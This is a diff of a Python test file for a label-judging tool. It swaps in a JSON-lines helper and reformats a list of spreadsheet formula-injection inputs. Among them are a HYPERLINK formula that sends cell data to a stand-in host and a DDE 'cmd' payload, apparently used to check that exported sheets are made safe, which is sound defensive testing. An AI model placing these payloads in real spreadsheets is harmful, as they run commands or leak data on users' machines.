@@ -4,7 +4,7 @@ import csv
 import json
 
 import pytest
-from graded_labels import write_jsonl
+from json_lines import read_rows, write_rows
 
 import nuggetjudge as nj
 from nuggetjudge.judges import JudgeFile
@@ -20,11 +20,7 @@ SENTENCES = [
     "tides follow the wind and the stars",
     "kelp bends in rivers of cold water",
 ]
-
-
 PASSAGE = "The moon and the sun make the tides. Kelp bends."
-
-
 NUGGETS = ["the moon makes tides", "the sun makes tides", "kelp glows in winter"]
 
 
@@ -45,10 +41,10 @@ def data(tmp_path):
         pool.append({"topic_id": topic, "docids": ["p1"]})
     return {
         "topics": tmp_path / "topics.tsv",
-        "passages": write_jsonl(tmp_path / "passages.jsonl", passages),
-        "runs": str(write_jsonl(tmp_path / "r.jsonl", runs)),
-        "nuggets": write_jsonl(tmp_path / "bank.jsonl", banks),
-        "candidates": write_jsonl(tmp_path / "pool.jsonl", pool),
+        "passages": write_rows(tmp_path / "passages.jsonl", passages),
+        "runs": str(write_rows(tmp_path / "r.jsonl", runs)),
+        "nuggets": write_rows(tmp_path / "bank.jsonl", banks),
+        "candidates": write_rows(tmp_path / "pool.jsonl", pool),
         "out": tmp_path / "out",
     }
 
@@ -58,8 +54,6 @@ PARTS = {
     "nuggets": ("runs", "topics", "nuggets"),
     "relevance": ("topics", "passages", "candidates"),
 }
-
-
 OF_JUDGE = {  # program -> judge, its labels
     "support": ("support", ("none", "partial", "full")),
     "nuggets": ("assigner", ("not_support", "partial_support", "support")),
@@ -88,7 +82,7 @@ def run(data, tmp_path):
 
 
 def rows_of(folder, name):
-    return [json.loads(line) for line in (folder / name).read_text(encoding="utf-8").splitlines()]
+    return read_rows(folder / name)
 
 
 def test_support_labels_are_those_of_the_correction_and_shifts_are_of_their_topic(run, data):
@@ -169,15 +163,9 @@ def row(**changed):
 
 
 HOSTILE = [
-    '=HYPERLINK("http://x.test?"&A1,"click")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-]
+    '=HYPERLINK("http://x.test?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
+    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -225,10 +213,10 @@ def test_a_filled_sheet_is_read_as_it_is_and_an_empty_label_is_none(tmp_path, na
             writer.writeheader()
             writer.writerows(rows)
     else:
-        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+        rows = read_rows(path)
         rows[0] |= {"label": "support", "annotator": "ann", "rationale": "said"}
         rows[1] |= {"label": "Not_Support"}
-        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+        write_rows(path, rows)
     labels = read_labels(path, problems := Problems())
     problems.raise_errors()
     assert labels.cells == {("t1", "a", "n0"): "support", ("t1", "a", "n1"): "not_support"}
